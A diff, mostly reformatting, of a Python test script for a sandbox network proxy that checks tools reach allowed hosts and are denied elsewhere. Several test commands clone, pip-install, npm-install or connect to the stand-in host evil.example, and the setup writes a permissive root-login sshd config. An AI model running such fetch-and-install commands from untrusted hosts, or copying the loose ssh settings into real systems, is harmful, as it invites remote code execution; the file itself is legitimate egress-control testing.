@@ -4,6 +4,7 @@
 """Programs that people's tools are made of, on networks with entries: as they come, with the proxy's variables and without.
 
 usage: clients.py TOOLCAGE USER [long [go]]     long: those alone that take seconds of a processor each; Go has to compile its own first"""
+
 import base64
 import functools
 import getpass
@@ -28,7 +29,9 @@ USER = getpass.getuser()
 def start(*words):
     """It ends with this script, which may not be allowed to end it any more when its time has come."""
     watch = ("sh", "-c", '"$@" & p=$!; cat; kill -9 $p; wait', "sh")
-    subprocess.Popen((*watch, *words), stdin=subprocess.PIPE, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+    subprocess.Popen(
+        (*watch, *words), stdin=subprocess.PIPE, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL
+    )
 
 
 def keep(name, text):
@@ -43,17 +46,21 @@ def start_sshd():
         subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", f"{network}/{name}"], check=True)
     os.chmod(f"{network}/id", 0o644)
     os.makedirs("/run/sshd", exist_ok=True)
-    config = (f"ListenAddress {API}:2200\nHostKey {network}/host\nAuthorizedKeysFile {network}/id.pub\nStrictModes no\nPidFile none\nUsePAM no\n"
-              "PasswordAuthentication no\nPermitRootLogin yes\n")
+    config = (
+        f"ListenAddress {API}:2200\nHostKey {network}/host\nAuthorizedKeysFile {network}/id.pub\nStrictModes no\nPidFile none\nUsePAM no\n"
+        "PasswordAuthentication no\nPermitRootLogin yes\n"
+    )
     start(shutil.which("sshd", path="/usr/sbin"), "-D", "-f", keep("sshd.conf", config))
 
 
 def start_nginx():
     """Over plain HTTP, and over TLS with HTTP/2."""
     tls = f"ssl_certificate {network}/cert.pem; ssl_certificate_key {network}/key.pem;"
-    config = (f"daemon off; master_process off; pid {network}/nginx.pid; error_log /dev/null; events {{}}\n"
-              f"http {{ access_log off; client_body_temp_path {network}/n1; proxy_temp_path {network}/n2; fastcgi_temp_path {network}/n3; uwsgi_temp_path {network}/n4; scgi_temp_path {network}/n5;\n"
-              f'server {{ listen {API}:8090; listen {API}:8443 ssl http2; {tls} location / {{ return 200 "nginx: $host $server_protocol $request_uri\\n"; }} }} }}\n')
+    config = (
+        f"daemon off; master_process off; pid {network}/nginx.pid; error_log /dev/null; events {{}}\n"
+        f"http {{ access_log off; client_body_temp_path {network}/n1; proxy_temp_path {network}/n2; fastcgi_temp_path {network}/n3; uwsgi_temp_path {network}/n4; scgi_temp_path {network}/n5;\n"
+        f'server {{ listen {API}:8090; listen {API}:8443 ssl http2; {tls} location / {{ return 200 "nginx: $host $server_protocol $request_uri\\n"; }} }} }}\n'
+    )
     start(shutil.which("nginx", path="/usr/sbin"), "-c", keep("nginx.conf", config))
 
 
@@ -72,14 +79,18 @@ func main() {
 
 def build_go():
     """Its linker takes longer than all else here."""
-    subprocess.run(["go", "build", "-o", f"{network}/get", keep("get.go", GO)], check=True, env=dict(os.environ, CGO_ENABLED="0", GOCACHE=f"{network}/gocache", GOFLAGS="-mod=mod"))
+    subprocess.run(
+        ["go", "build", "-o", f"{network}/get", keep("get.go", GO)],
+        check=True,
+        env=dict(os.environ, CGO_ENABLED="0", GOCACHE=f"{network}/gocache", GOFLAGS="-mod=mod"),
+    )
 
 
 MODULES = {
     "requests": "import requests, sys\nr = requests.get(sys.argv[1]); print(r.text); sys.exit(r.status_code != 200)\n",
     "httpx": "import httpx, sys\nr = httpx.get(sys.argv[1]); print(r.text); sys.exit(r.status_code != 200)\n",
     "aiohttp": "import aiohttp, asyncio, sys\nasync def get():\n async with aiohttp.ClientSession(trust_env=True) as s:\n  async with s.get(sys.argv[1]) as r:\n"
-               "   print(await r.text()); sys.exit(r.status != 200)\nasyncio.run(get())\n",
+    "   print(await r.text()); sys.exit(r.status != 200)\nasyncio.run(get())\n",
 }
 
 with_go = "go" in sys.argv[3:]
@@ -99,9 +110,9 @@ shell = shell_with(ENTRIES)
 PROGRAMS = {
     "wget": f"wget -q -O- --ca-certificate=/ca/cert.pem https://api.example.com/ && wget -q -O- --no-proxy --ca-certificate=/ca/cert.pem https://api.example.com/",
     "python3": "python3 -c \"import urllib.request,ssl; c=ssl.create_default_context(cafile='/ca/cert.pem'); print(urllib.request.urlopen('https://api.example.com/',context=c).read().decode());"
-               " o=urllib.request.build_opener(urllib.request.ProxyHandler({}),urllib.request.HTTPSHandler(context=c)); print(o.open('https://api.example.com/').read().decode())\"",
+    " o=urllib.request.build_opener(urllib.request.ProxyHandler({}),urllib.request.HTTPSHandler(context=c)); print(o.open('https://api.example.com/').read().decode())\"",
     "openssl": "printf 'GET / HTTP/1.0\\r\\nHost: api.example.com\\r\\n\\r\\n' | timeout 5 openssl s_client -quiet -CAfile /ca/cert.pem -servername api.example.com -connect api.example.com:443 2>/dev/null;"
-               " printf 'GET / HTTP/1.0\\r\\nHost: api.example.com\\r\\n\\r\\n' | timeout 5 openssl s_client -quiet -CAfile /ca/cert.pem -servername api.example.com -connect api.example.com:443 2>/dev/null",
+    " printf 'GET / HTTP/1.0\\r\\nHost: api.example.com\\r\\n\\r\\n' | timeout 5 openssl s_client -quiet -CAfile /ca/cert.pem -servername api.example.com -connect api.example.com:443 2>/dev/null",
 }
 
 
@@ -111,7 +122,9 @@ def programs(s):
         if not shutil.which(name, path="/usr/bin"):
             raise Skip(f"skipped: {name} is not here")
         answer = shell(s, script)
-        check(answer.out.count('"host": "api.example.com"') == 2, f"{name}: with and without the proxy", answer)
+        check(
+            answer.out.count('"host": "api.example.com"') == 2, f"{name}: with and without the proxy", answer
+        )
 
 
 def wheel(path):
@@ -119,14 +132,20 @@ def wheel(path):
     with zipfile.ZipFile(path, "w") as file:
         file.writestr("tiny.py", "print('tiny is here')\n")
         file.writestr("tiny-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: tiny\nVersion: 1.0\n")
-        file.writestr("tiny-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
+        file.writestr(
+            "tiny-1.0.dist-info/WHEEL",
+            "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
+        )
         file.writestr("tiny-1.0.dist-info/RECORD", "")
 
 
 def tarball(path):
     """The least that npm installs."""
     with tarfile.open(path, "w:gz") as file:
-        for name, text in (("package.json", '{"name": "tiny", "version": "1.0.0"}'), ("index.js", "console.log('tiny is here')\n")):
+        for name, text in (
+            ("package.json", '{"name": "tiny", "version": "1.0.0"}'),
+            ("index.js", "console.log('tiny is here')\n"),
+        ):
             info = tarfile.TarInfo("package/" + name)
             info.size = len(text)
             file.addfile(info, io.BytesIO(text.encode()))
@@ -142,14 +161,23 @@ def stock(root):
     tarball(f"{root}/npm/tiny.tgz")
     with open(f"{root}/npm/tiny.tgz", "rb") as file:
         digest = base64.b64encode(hashlib.sha512(file.read()).digest()).decode()
-    version = {"name": "tiny", "version": "1.0.0", "dist": {"tarball": "http://files.example.com:8088/npm/tiny.tgz", "integrity": "sha512-" + digest}}
+    version = {
+        "name": "tiny",
+        "version": "1.0.0",
+        "dist": {"tarball": "http://files.example.com:8088/npm/tiny.tgz", "integrity": "sha512-" + digest},
+    }
     with open(f"{root}/npm/tiny", "w", encoding="ascii") as file:
         json.dump({"name": "tiny", "dist-tags": {"latest": "1.0.0"}, "versions": {"1.0.0": version}}, file)
     if shutil.which("git"):
         with open(f"{root}/work/said", "w", encoding="ascii") as file:
             file.write("cloned\n")
         who = ["-c", "user.name=t", "-c", "user.email=t@example.com", "-c", "safe.directory=*"]
-        for words in (["init", "-q"], ["add", "said"], ["commit", "-qm", "said"], ["clone", "-q", "--bare", ".", "../repo.git"]):
+        for words in (
+            ["init", "-q"],
+            ["add", "said"],
+            ["commit", "-qm", "said"],
+            ["clone", "-q", "--bare", ".", "../repo.git"],
+        ):
             subprocess.run(["git", *who, *words], cwd=f"{root}/work", check=True, capture_output=True)
         subprocess.run(["git", *who, "update-server-info"], cwd=f"{root}/repo.git", check=True)
 
@@ -172,22 +200,44 @@ INSTALL = "pip3 install -q --no-cache-dir --disable-pip-version-check --index-ur
 NPM = "npm install --silent --no-audit --no-fund --cache /tmp/cache --registry http://files.example.com:8088/npm/ --prefix"
 # What it is to say, with the proxy's variables and without, and what it is to fail with on another host.
 WORKERS = {
-    "git": (f"git clone -q http://files.example.com:8088/repo.git /tmp/a && cat /tmp/a/said; {PLAIN} git clone -q http://files.example.com:8088/repo.git /tmp/b && cat /tmp/b/said", "cloned",
-            "git clone -q http://evil.example/repo.git /tmp/c"),
-    "pip3": (f"{INSTALL} /tmp/a tiny && python3 /tmp/a/tiny.py; {PLAIN} {INSTALL} /tmp/b tiny && python3 /tmp/b/tiny.py", "tiny is here",
-             "pip3 install -q --no-cache-dir --retries 0 --disable-pip-version-check --index-url http://evil.example/simple/ --trusted-host evil.example --target /tmp/c tiny"),
-    "npm": (f"{NPM} /tmp/a tiny; node /tmp/a/node_modules/tiny; {PLAIN} {NPM} /tmp/b tiny; node /tmp/b/node_modules/tiny", "tiny is here",
-            "npm install --silent --fetch-retries 0 --cache /tmp/cache --registry http://evil.example/ --prefix /tmp/c tiny"),
-    "node": (f"node -e '{FETCH}' http://api.example.com/; {PLAIN} node -e '{FETCH}' http://api.example.com/", '"host": "api.example.com"', f"node -e '{FETCH}' http://evil.example/"),
-    "java": (f"cat > /tmp/A.java <<'END'\n{JAVA}END\njava -Xmx128m /tmp/A.java http://api.example.com/ && {PLAIN} java -Xmx128m /tmp/A.java http://api.example.com/", '"host": "api.example.com"',
-             f"cat > /tmp/A.java <<'END'\n{JAVA}END\njava -Xmx128m /tmp/A.java http://evil.example/"),
+    "git": (
+        f"git clone -q http://files.example.com:8088/repo.git /tmp/a && cat /tmp/a/said; {PLAIN} git clone -q http://files.example.com:8088/repo.git /tmp/b && cat /tmp/b/said",
+        "cloned",
+        "git clone -q http://evil.example/repo.git /tmp/c",
+    ),
+    "pip3": (
+        f"{INSTALL} /tmp/a tiny && python3 /tmp/a/tiny.py; {PLAIN} {INSTALL} /tmp/b tiny && python3 /tmp/b/tiny.py",
+        "tiny is here",
+        "pip3 install -q --no-cache-dir --retries 0 --disable-pip-version-check --index-url http://evil.example/simple/ --trusted-host evil.example --target /tmp/c tiny",
+    ),
+    "npm": (
+        f"{NPM} /tmp/a tiny; node /tmp/a/node_modules/tiny; {PLAIN} {NPM} /tmp/b tiny; node /tmp/b/node_modules/tiny",
+        "tiny is here",
+        "npm install --silent --fetch-retries 0 --cache /tmp/cache --registry http://evil.example/ --prefix /tmp/c tiny",
+    ),
+    "node": (
+        f"node -e '{FETCH}' http://api.example.com/; {PLAIN} node -e '{FETCH}' http://api.example.com/",
+        '"host": "api.example.com"',
+        f"node -e '{FETCH}' http://evil.example/",
+    ),
+    "java": (
+        f"cat > /tmp/A.java <<'END'\n{JAVA}END\njava -Xmx128m /tmp/A.java http://api.example.com/ && {PLAIN} java -Xmx128m /tmp/A.java http://api.example.com/",
+        '"host": "api.example.com"',
+        f"cat > /tmp/A.java <<'END'\n{JAVA}END\njava -Xmx128m /tmp/A.java http://evil.example/",
+    ),
 }
 
 
 def work(s, script):
     """Debian's Java has its settings beside what a cage shows of /etc."""
-    return s.shell(script, network='["files.example.com:8088", "api.example.com:80"]', readable=glob.glob("/etc/java-*"), writable=(), more='timeout = "60s"',
-                   memory='{ max = "2GiB", by = "any" }')
+    return s.shell(
+        script,
+        network='["files.example.com:8088", "api.example.com:80"]',
+        readable=glob.glob("/etc/java-*"),
+        writable=(),
+        more='timeout = "60s"',
+        memory='{ max = "2GiB", by = "any" }',
+    )
 
 
 def workers(s):
@@ -202,7 +252,11 @@ def workers(s):
         answer = work(s, script)
         check(answer.out.count(said) == 2, f"{name}: with the proxy's variables and without", answer)
         answer = work(s, other)
-        check(answer.status == "failed" and {"evil.example:80", "evil.example"} & target(answer), f"{name}: another host, with its denial", answer)
+        check(
+            answer.status == "failed" and {"evil.example:80", "evil.example"} & target(answer),
+            f"{name}: another host, with its denial",
+            answer,
+        )
     if lacking:
         raise Skip(f"skipped: {', '.join(lacking)}: no such program is here")
 
@@ -219,12 +273,30 @@ def modules(s):
         if lacks(name):
             raise Skip(f"skipped: the system's Python has no {name}")
         get = f"/usr/bin/python3 /ca/{name}_get.py"
-        answer = shell(s, f"{get} http://api.example.com/v1; {PLAIN} {get} http://api.example.com/v1; {get} https://api.example.com/v1; {PLAIN} {get} https://api.example.com/v1", read)
-        check(answer.out.count('"path": "/v1"') == 4, f"{name}: plain HTTP and TLS that is looked into, with the proxy's variables and without", answer)
+        answer = shell(
+            s,
+            f"{get} http://api.example.com/v1; {PLAIN} {get} http://api.example.com/v1; {get} https://api.example.com/v1; {PLAIN} {get} https://api.example.com/v1",
+            read,
+        )
+        check(
+            answer.out.count('"path": "/v1"') == 4,
+            f"{name}: plain HTTP and TLS that is looked into, with the proxy's variables and without",
+            answer,
+        )
         answer = shell(s, f"{get} https://api.example.com/v2", read)
-        check(answer.status == "failed" and '"rule"' in answer.out and target(answer) == {"api.example.com:443"}, f"{name}: another path, with its denial", answer)
+        check(
+            answer.status == "failed"
+            and '"rule"' in answer.out
+            and target(answer) == {"api.example.com:443"},
+            f"{name}: another path, with its denial",
+            answer,
+        )
         answer = shell(s, f"{get} http://evil.example/; {PLAIN} {get} http://evil.example/", read)
-        check({"evil.example:80", "evil.example"} & target(answer) and answer.status == "failed", f"{name}: another host, with its denial", answer)
+        check(
+            {"evil.example:80", "evil.example"} & target(answer) and answer.status == "failed",
+            f"{name}: another host, with its denial",
+            answer,
+        )
 
 
 def nginx(s):
@@ -233,11 +305,34 @@ def nginx(s):
     if not shutil.which("nginx", path="/usr/sbin"):
         raise Skip("skipped: nginx is not here")
     waits = "until curl -sS -o /dev/null http://api.example.com:8090/ 2>/dev/null; do sleep 0.1; done; "
-    answer = shell(s, f"{waits} curl -sS http://api.example.com:8090/a; curl -sS --noproxy '*' http://api.example.com:8090/b; curl -sS {CA} https://api.example.com:8443/c; curl -sS {CA} --noproxy '*' https://api.example.com:8443/d")
-    check(answer.out.split("\n") == ["nginx: api.example.com HTTP/1.1 /a", "nginx: api.example.com HTTP/1.1 /b", "nginx: api.example.com HTTP/2.0 /c", "nginx: api.example.com HTTP/2.0 /d", ""],
-          "nginx: plain, and by TLS with HTTP/2 of its own", answer)
-    answer = shell(s, "curl -sS https://api.example.com:8443/v1/a; curl -sS https://api.example.com:8443/v2", '[{ host = "api.example.com", port = 8443, methods = ["GET"], paths = ["/v1"] }]')
-    check("nginx: api.example.com HTTP/1.1 /v1/a\n" in answer.out and "nginx: api.example.com HTTP/1.1 /v2" not in answer.out and '"rule"' in answer.out, "looked into: HTTP/1.1 and the paths that are named", answer)
+    answer = shell(
+        s,
+        f"{waits} curl -sS http://api.example.com:8090/a; curl -sS --noproxy '*' http://api.example.com:8090/b; curl -sS {CA} https://api.example.com:8443/c; curl -sS {CA} --noproxy '*' https://api.example.com:8443/d",
+    )
+    check(
+        answer.out.split("\n")
+        == [
+            "nginx: api.example.com HTTP/1.1 /a",
+            "nginx: api.example.com HTTP/1.1 /b",
+            "nginx: api.example.com HTTP/2.0 /c",
+            "nginx: api.example.com HTTP/2.0 /d",
+            "",
+        ],
+        "nginx: plain, and by TLS with HTTP/2 of its own",
+        answer,
+    )
+    answer = shell(
+        s,
+        "curl -sS https://api.example.com:8443/v1/a; curl -sS https://api.example.com:8443/v2",
+        '[{ host = "api.example.com", port = 8443, methods = ["GET"], paths = ["/v1"] }]',
+    )
+    check(
+        "nginx: api.example.com HTTP/1.1 /v1/a\n" in answer.out
+        and "nginx: api.example.com HTTP/1.1 /v2" not in answer.out
+        and '"rule"' in answer.out,
+        "looked into: HTTP/1.1 and the paths that are named",
+        answer,
+    )
 
 
 def ssh(s):
@@ -248,19 +343,41 @@ def ssh(s):
     options = "-F none -i /tmp/id -o IdentitiesOnly=yes -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR"
     by = "-o 'ProxyCommand=nc -X connect -x 198.18.0.1:3128 %h %p'"
     words = f"{USER}@api.example.com -p 2200"
-    answer = shell(s, f"umask 077; cp /ca/id /tmp/id; ssh {options} {words} echo one in; ssh {options} {by} {words} echo two in")
+    answer = shell(
+        s,
+        f"umask 077; cp /ca/id /tmp/id; ssh {options} {words} echo one in; ssh {options} {by} {words} echo two in",
+    )
     check(answer.out == "one in\ntwo in\n", "ssh: logged in without a proxy, and with one", answer)
-    answer = shell(s, f"umask 077; cp /ca/id /tmp/id; ssh {options} {words} echo in; ssh {options} {by} {words} echo in", '["api.example.com:443"]')
-    check("in\n" not in answer.out and "api.example.com:2200" in target(answer), "ssh: another port, with its denial", answer)
+    answer = shell(
+        s,
+        f"umask 077; cp /ca/id /tmp/id; ssh {options} {words} echo in; ssh {options} {by} {words} echo in",
+        '["api.example.com:443"]',
+    )
+    check(
+        "in\n" not in answer.out and "api.example.com:2200" in target(answer),
+        "ssh: another port, with its denial",
+        answer,
+    )
 
 
 def netcat(s):
     s.works("net.allow")
     if not shutil.which("nc", path="/usr/bin"):
         raise Skip("skipped: nc is not here")
-    answer = shell(s, "echo me | nc -N -w 5 api.example.com 2222; echo you | nc -N -w 5 -X connect -x 198.18.0.1:3128 api.example.com 2222; echo them | nc -N -w 5 -X 5 -x 198.18.0.1:3128 api.example.com 2222")
-    check("ME\n" in answer.out and "YOU\n" in answer.out and "THEM\n" in answer.out, "nc: as it is, by CONNECT and by SOCKS5", answer)
-    answer = shell(s, "echo me | nc -N -w 5 evil.example 80; echo me | nc -w 2 -u 93.184.216.99 53; echo me | nc -N -w 5 -X 5 -x 198.18.0.1:3128 evil.example 80", "[\"api.example.com:2222\"]")
+    answer = shell(
+        s,
+        "echo me | nc -N -w 5 api.example.com 2222; echo you | nc -N -w 5 -X connect -x 198.18.0.1:3128 api.example.com 2222; echo them | nc -N -w 5 -X 5 -x 198.18.0.1:3128 api.example.com 2222",
+    )
+    check(
+        "ME\n" in answer.out and "YOU\n" in answer.out and "THEM\n" in answer.out,
+        "nc: as it is, by CONNECT and by SOCKS5",
+        answer,
+    )
+    answer = shell(
+        s,
+        "echo me | nc -N -w 5 evil.example 80; echo me | nc -w 2 -u 93.184.216.99 53; echo me | nc -N -w 5 -X 5 -x 198.18.0.1:3128 evil.example 80",
+        '["api.example.com:2222"]',
+    )
     check(not answer.out and "evil.example:80" in target(answer), "nc: nowhere else, by UDP neither", answer)
 
 
@@ -268,19 +385,39 @@ def dig(s):
     s.works("net.allow")
     if not shutil.which("dig", path="/usr/bin"):
         raise Skip("skipped: dig is not here")
-    answer = shell(s, "dig +short api.example.com A; dig +short +tcp api.example.com A; dig evil.example A | grep -o NXDOMAIN; dig evil.example TXT | grep -o NXDOMAIN; dig +short api.example.com TXT; dig +time=1 +tries=1 @93.184.216.99 evil.example | grep -o ANSWER")
+    answer = shell(
+        s,
+        "dig +short api.example.com A; dig +short +tcp api.example.com A; dig evil.example A | grep -o NXDOMAIN; dig evil.example TXT | grep -o NXDOMAIN; dig +short api.example.com TXT; dig +time=1 +tries=1 @93.184.216.99 evil.example | grep -o ANSWER",
+    )
     lines = answer.out.split("\n")
-    check(lines[0].startswith("198.18.") and lines[1] == lines[0] and lines[2:] == ["NXDOMAIN", "NXDOMAIN", ""], "dig: granted names by UDP and TCP, and no others; no other server", answer)
+    check(
+        lines[0].startswith("198.18.") and lines[1] == lines[0] and lines[2:] == ["NXDOMAIN", "NXDOMAIN", ""],
+        "dig: granted names by UDP and TCP, and no others; no other server",
+        answer,
+    )
 
 
 def go(s):
     s.works("net.allow")
     if not with_go:
         return
-    answer = shell(s, f"/ca/get http://api.example.com/; {PLAIN} /ca/get http://api.example.com/; SSL_CERT_FILE=/ca/cert.pem /ca/get https://api.example.com/; {PLAIN} SSL_CERT_FILE=/ca/cert.pem /ca/get https://api.example.com/")
-    check(answer.out.count('"host": "api.example.com"') == 4, "Go: plain HTTP and TLS, with the proxy's variables and without", answer)
+    answer = shell(
+        s,
+        f"/ca/get http://api.example.com/; {PLAIN} /ca/get http://api.example.com/; SSL_CERT_FILE=/ca/cert.pem /ca/get https://api.example.com/; {PLAIN} SSL_CERT_FILE=/ca/cert.pem /ca/get https://api.example.com/",
+    )
+    check(
+        answer.out.count('"host": "api.example.com"') == 4,
+        "Go: plain HTTP and TLS, with the proxy's variables and without",
+        answer,
+    )
     answer = shell(s, "/ca/get http://evil.example/; /ca/get https://evil.example/")
-    check('"host": "evil.example"' not in answer.out and answer.code == 9 and "evil.example:443" in target(answer), "Go: another host, with its denial", answer)
+    check(
+        '"host": "evil.example"' not in answer.out
+        and answer.code == 9
+        and "evil.example:443" in target(answer),
+        "Go: another host, with its denial",
+        answer,
+    )
 
 
 run(*([workers, modules, go] if "long" in sys.argv[3:] else [programs, nginx, ssh, netcat, dig]))
